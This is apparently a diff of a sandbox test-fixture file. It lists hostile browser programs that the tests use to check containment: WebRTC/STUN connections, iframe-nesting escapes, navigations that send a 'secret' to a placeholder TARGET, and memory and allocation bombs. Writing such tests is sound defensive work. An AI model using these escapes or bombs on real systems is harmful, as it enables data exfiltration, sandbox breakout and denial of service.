@@ -1,6 +1,6 @@
 /**
  * What a hostile program tries, one by one. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test can
- * say which one got through. `SITE` and `ELSEWHERE` stand for addresses that the test's servers listen on.
+ * say which one got through. `SITE`, `ELSEWHERE` and `STUN` stand for addresses that the test's servers listen on.
  */
 
 /** Shared by both kinds of sandbox: how an attempt is told. */
@@ -36,6 +36,14 @@ for (const address of ['SITE', 'ELSEWHERE']) {
   await attempt('EventSource ' + address, () => opened(new EventSource(address + 'events'), 'open'));
   await attempt('import() ' + address, async () => typeof (await eval('import("' + address + 'module.js")')));
 }
+for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'RTCIceTransport', 'WebTransport', 'WebSocketStream'])
+  await attempt(name, () => { if (!(name in globalThis)) throw new ReferenceError(); return 'there'; });
+await attempt('a connection by WebRTC', async () => {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] });
+  connection.createDataChannel('x');
+  await connection.setLocalDescription(await connection.createOffer());
+  return 'offered';
+});
 await attempt('indexedDB', () => opened(indexedDB.open('x'), 'success'));
 await attempt('caches', () => caches.open('x'));
 `;
@@ -48,6 +56,9 @@ await attempt('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blo
 await attempt('localStorage', () => localStorage.getItem('secret'));
 await attempt('document', () => document.cookie);
 await attempt('parent', () => parent.document);
+await attempt('top', () => top.document);
+await attempt('location', () => { location.href = 'ELSEWHERElocation'; });
+await attempt('open', () => open('ELSEWHEREopen'));
 await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
 await attempt('cookieStore', () => cookieStore.getAll());
 await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
@@ -56,7 +67,119 @@ await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
   channel.postMessage('hello');
   setTimeout(() => reject(new Error('no answer')), 300);
 }));
+console.log('all attempted');
 `;
+
+/** Frames inside the frame, each of which says so when its script runs: it would have the removed constructors again. */
+const CHILDREN = `
+const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
+const ran = (make, root = document.body) => new Promise((resolve, reject) => {
+  addEventListener('message', ({ data }) => resolve(data), { once: true });
+  setTimeout(() => reject(new Error('no message')), 500);
+  make(root);
+});
+const child = (fields, root = document.body) => root.append(Object.assign(document.createElement('iframe'), fields));
+const JS = 'javascript:parent.postMessage("child ran", "*")';
+await attempt('constructors of a child', () => { const made = document.createElement('iframe'); document.body.append(made); return typeof made.contentWindow.RTCPeerConnection; });
+await attempt('constructors of a child, later', async () => { await 0; await new Promise((go) => setTimeout(go, 100)); return typeof frames[0].RTCPeerConnection; });
+await attempt('child by srcdoc', () => ran(() => child({ srcdoc: SCRIPT })));
+await attempt('child by javascript:', () => ran(() => child({ src: JS })));
+await attempt('child by data:', () => ran(() => child({ src: 'data:text/html,' + SCRIPT })));
+await attempt('child by blob:', () => ran(() => child({ src: URL.createObjectURL(new Blob([SCRIPT], { type: 'text/html' })) })));
+await attempt('child by innerHTML', () => ran(() => document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></div>')));
+await attempt('child with a sandbox', () => ran(() => { const made = document.createElement('iframe'); made.sandbox = 'allow-scripts'; made.srcdoc = SCRIPT; document.body.append(made); }));
+await attempt('child whose sandbox goes', () => ran(() => { const made = document.createElement('iframe'); document.body.append(made); setTimeout(() => { made.removeAttribute('sandbox'); made.srcdoc = SCRIPT; made.setAttribute('sandbox', ''); }, 50); }));
+await attempt('child in a shadow tree', () => ran(() => { const host = document.createElement('div'); child({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed' })); document.body.append(host); }));
+await attempt('child in a copied shadow tree', () => ran(() => { const host = document.createElement('div'); child({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed', clonable: true })); document.body.append(host.cloneNode(true)); }));
+await attempt('child in an open shadow tree of the parser', () => ran(() => { const host = document.createElement('div'); host.setHTMLUnsafe('<p><template shadowrootmode="open"><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></template></p>'); document.body.append(host); }));
+await attempt('child deep down', () => ran(() => { const top = document.createElement('div'); let at = top; for (let i = 0; i < 3000; i++) at = at.appendChild(document.createElement('i')); child({ srcdoc: SCRIPT }, at); document.body.append(top); setTimeout(() => top.remove(), 100); }));
+await attempt('child in a frameset', () => ran(() => { const set = document.createElement('frameset'); const made = document.createElement('frame'); made.src = JS; set.append(made); document.body.append(set); }));
+await attempt('child that answers', () => ran(() => { customElements.define('my-frame', class extends HTMLIFrameElement { connectedCallback() { if (this.getAttribute('sandbox') === '') { this.removeAttribute('sandbox'); this.srcdoc = SCRIPT; } } }, { extends: 'iframe' }); const made = document.createElement('div'); made.innerHTML = '<iframe is="my-frame"></iframe>'; document.body.append(made); }));
+document.documentElement ?? document.append(document.createElement('html'));
+document.body ?? document.documentElement.append(document.createElement('body'));
+await attempt('child past replaced methods', () => ran(() => {
+  const nothing = () => null;
+  for (const name of ['remove', 'matches', 'setAttribute', 'querySelectorAll', 'closest']) Element.prototype[name] = nothing;
+  Node.prototype.insertBefore = nothing;
+  for (const [prototype, name] of [[MutationRecord.prototype, 'addedNodes'], [Node.prototype, 'nodeType'], [Node.prototype, 'parentNode'], [NodeList.prototype, 'length']]) Object.defineProperty(prototype, name, { get: nothing });
+  Function.prototype.call = Reflect.apply = MutationObserver.prototype.takeRecords = MutationObserver.prototype.disconnect = nothing;
+  child({ srcdoc: SCRIPT });
+}));
+console.log('all attempted');
+`;
+
+/** For the `html` runtime: a page of its own, for it replaces what others need. */
+export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMessage('from the start', '*')</script>"></iframe>
+<script type="module">addEventListener('message', ({ data }) => { if (data === 'from the start') console.log('child from the start: ALLOWED'); });
+${TELL}${CHILDREN}</script>`;
+
+/** Ways in which a frame can lead itself elsewhere, and take something along in the address. */
+export const DEPARTURES: { name: string; code: string }[] = [
+  { name: 'location.href', code: `<script>location.href = 'TARGET?secret';</script>` },
+  { name: 'location.replace', code: `<script>location.replace('TARGET?secret');</script>` },
+  { name: 'meta refresh', code: `<meta http-equiv="refresh" content="0;url=TARGET?secret"><p>x</p>` },
+  {
+    name: 'a link that a script clicks',
+    code: `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; HTMLElement.prototype.click.call(a);</script>`,
+  },
+  {
+    name: 'a link with a ping',
+    code: `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; a.ping = 'TARGET?ping'; HTMLElement.prototype.click.call(a);</script>`,
+  },
+  {
+    name: 'a form',
+    code: `<form action="TARGET"><input name="secret" value="1"></form><script>HTMLFormElement.prototype.submit.call(document.forms[0]);</script>`,
+  },
+  {
+    name: 'a form that a button sends past the page’s own handler',
+    code: `<form action="TARGET"><input name="secret" value="1"><button>x</button></form><script>addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.querySelector('button').click();</script>`,
+  },
+  {
+    name: 'a document of its own by blob:',
+    code: `<script>location.href = URL.createObjectURL(new Blob(['<script>RTC; location.href = "TARGET?secret"</' + 'script>'], { type: 'text/html' }));</script>`,
+  },
+  {
+    name: 'a document of its own by data:',
+    code: `<script>location.href = 'data:text/html,' + encodeURIComponent('<script>RTC; location.href = "TARGET?secret"</' + 'script>');</script>`,
+  },
+  {
+    name: 'a document written anew',
+    code: `<script>addEventListener('load', () => { document.open(); document.write('<iframe srcdoc="<script>RTC</' + 'script>"></iframe><script>RTC; location.href = "TARGET?secret"</' + 'script>'); document.close(); });</script>`,
+  },
+];
+
+/** A question to the server of `STUN`, in one expression. */
+export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;
+
+/** One call each that asks for more than a program may have; each must be refused before it is made. */
+export const LARGE = `<p>large</p><script>
+const much = 1e9;
+const memory = new WebAssembly.Memory({ initial: 1 });
+const attempts = {
+  'new Array': () => new Array(much),
+  'Array': () => Array(much),
+  'Array.from': () => Array.from({ length: much }),
+  'fill': () => { const all = []; all.length = much; all.fill(0); },
+  'Uint8Array': () => new Uint8Array(much),
+  'Float64Array of a length': () => new Float64Array({ length: much }),
+  'ArrayBuffer': () => new ArrayBuffer(much),
+  'a subclass of ArrayBuffer': () => new (class extends ArrayBuffer {})(much),
+  'the constructor of a buffer': () => new (new ArrayBuffer(1).constructor)(much),
+  'repeat': () => 'x'.repeat(2 ** 28 + 1),
+  'padStart': () => 'x'.padStart(2 ** 28 + 1),
+  'padEnd': () => 'x'.padEnd(2 ** 28 + 1),
+  'WebAssembly.Memory': () => new WebAssembly.Memory({ initial: 5000 }),
+  'memory.grow': () => memory.grow(5000),
+  'canvas': () => { const made = document.createElement('canvas'); made.width = 9000; made.height = 9000; },
+  'OffscreenCanvas': () => new OffscreenCanvas(9000, 9000),
+  'Blob': () => { const part = new Uint8Array(1e8); new Blob([part, part, part]); },
+};
+for (const [name, attempt] of Object.entries(attempts)) {
+  let came = 'ALLOWED';
+  try { attempt(); } catch (error) { came = error.message; }
+  console.log(name + ': ' + came);
+}
+</script>`;
 
 /** For the `html` runtime, in the frame itself; last of all it tries to turn its own frame into another site. */
 export const FRAME_ATTACK = `<p>attack</p><script type="module">${TELL}${NETWORK}
@@ -157,9 +280,9 @@ export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: 
     ends: /flood|sent more than/,
   },
   {
-    name: 'a memory bomb in a frame',
+    name: 'a frame that fills its document',
     runtime: 'html',
-    code: '<script>const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()));</script>',
+    code: '<script>for (;;) document.body.append(document.createElement("p"));</script>',
     ends: /the loop did not end|timeout|frozen/,
   },
   {
@@ -175,3 +298,47 @@ export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: 
     ends: /the loop did not end|timeout|frozen/,
   },
 ];
+
+const OVER = /used more than 256 MB of memory/;
+
+/** Programs in a frame that fill the memory; also tried where the frame has no process of its own, as on phones. */
+export const MEMORY_BOMBS: typeof BOMBS = [
+  ['large arrays', 'for (;;) all.push(new Array(1e5).fill(Math.random()));'],
+  ['huge arrays', 'for (;;) all.push(new Array(1e7).fill(Math.random()));'],
+  ['small objects', 'for (let i = 0; ; i++) all.push({ i });'],
+  ['an array that doubles', 'let twice = [1, 2]; for (;;) twice = [...twice, ...twice];'],
+  [
+    'arrays after a quick loop',
+    'let n = 0; for (let i = 0; i < 1e6; i++) n += i; for (;;) all.push(Array.from({ length: 1e6 }, () => n));',
+  ],
+  ['buffers', 'for (;;) all.push(new Uint8Array(1e7).fill(1));'],
+  [
+    'strings in a recursion',
+    'const again = (n) => { all.push("é€".repeat(1e6) + n); all.at(-1).charCodeAt(7); again(n + 1); }; again(0);',
+  ],
+  ['a loop that catches', 'for (;;) try { for (;;) all.push(new Array(1e5).fill(Math.random())); } catch {}'],
+  [
+    'arrays past the guard',
+    'new Function("all", "for (;;) all.push(new Array(1e5).fill(Math.random()))")(all);',
+  ],
+]
+  .map(([name, code]) => ({
+    name: `a memory bomb of ${name} in a frame`,
+    runtime: 'html' as const,
+    code: `<script>const all = []; ${code}</script>`,
+    ends: OVER,
+  }))
+  .concat([
+    {
+      name: 'a memory bomb in a frame after its run',
+      runtime: 'html' as const,
+      code: '<p>calm</p><script>const all = []; setInterval(() => { for (let i = 0; i < 20; i++) all.push(new Array(1e5).fill(Math.random())); }, 20);</script>',
+      ends: OVER,
+    },
+    {
+      name: 'a memory bomb past the guard in a frame after its run',
+      runtime: 'html' as const,
+      code: '<p>calm</p><script>var all = []; setInterval(new Function("for (let i = 0; i < 2e5; i++) all.push([i, {}]);"), 50);</script>',
+      ends: /Stopped: the program used more/,
+    },
+  ]);
